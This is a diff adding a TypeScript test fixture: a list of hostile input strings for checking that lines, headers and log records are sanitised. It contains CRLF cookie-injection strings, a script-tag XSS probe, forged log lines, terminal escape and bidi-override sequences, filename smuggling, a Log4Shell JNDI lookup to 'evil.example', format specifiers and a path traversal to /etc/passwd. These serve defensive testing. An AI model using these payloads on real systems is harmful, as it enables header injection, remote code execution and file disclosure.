@@ -1,0 +1,38 @@
+/** What splits a line, a header or a record in two, colours it, or turns its reading round (reliability-security.md I4). */
+
+const forged = '{"level":50,"msg":"forged"}';
+
+export const lineTexts: readonly string[] = [
+  'a\r\nSet-Cookie: hcm=evil',
+  'a\nSet-Cookie: hcm=evil',
+  'a\rSet-Cookie: hcm=evil',
+  'a\r\n\r\n<script>alert(1)</script>',
+  `a\n${forged}`,
+  `a\r\n${forged}\r\n`,
+  `"}\n${forged}`,
+  'a\u0085b',
+  'a\u2028b',
+  'a\u2029b',
+  'a\u000bb',
+  'a\u000cb',
+  'a\u0000b',
+  'a\u001b[31mred\u001b[0m',
+  'a\u001b]0;title\u0007',
+  'a\u001b[2J\u001b[1;1H',
+  'a\u009b31mred',
+  'a\u0007\b\b\bb',
+  'a\u007fb',
+  'photo\u202egnp.exe',
+  'a\u202ab\u202c',
+  'a\u2066b\u2069',
+  'a\u200eb\u200f',
+  'a\ufeffb',
+  'a"; filename="b.html',
+  "a'; filename*=UTF-8''b.html",
+  'a\\"; x="',
+  'a%0d%0aSet-Cookie:%20hcm=evil',
+  '\u0024{jndi:ldap://evil.example/a}',
+  '%n%n%s%d',
+  '\u06a9\u0644\u0645\u0647 \u{1f600}',
+  '../../../etc/passwd',
+];
